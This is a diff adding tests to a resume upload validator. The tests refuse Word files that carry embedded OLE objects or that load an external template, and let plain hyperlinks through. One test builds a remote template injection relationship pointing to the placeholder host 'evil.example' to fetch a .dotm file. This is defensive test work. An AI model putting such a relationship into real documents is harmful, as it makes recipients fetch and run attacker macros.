@@ -177,3 +177,20 @@ def test_filters_written_to_slip_past_the_check_do_not(dictionary):
     )
     assert b"JavaScript" not in data
     assert refusal(data).code in ("resume_pdf_script", "resume_pdf_unreadable")
+
+
+def test_a_word_document_with_embedded_objects_is_refused():
+    error = refusal(docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}))
+    assert error.code == "resume_docx_embedded"
+
+
+def test_a_word_document_loading_a_remote_template_is_refused_hyperlinks_are_not():
+    remote = (
+        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/'
+        b't.dotm" TargetMode="External"/></Relationships>'
+    )
+    error = refusal(docx({"word/_rels/settings.xml.rels": remote}))
+    assert error.code == "resume_docx_remote"
+    link = remote.replace(b"attachedTemplate", b"hyperlink")
+    assert resume_inspect(docx({"word/_rels/document.xml.rels": link})).extension == ".docx"
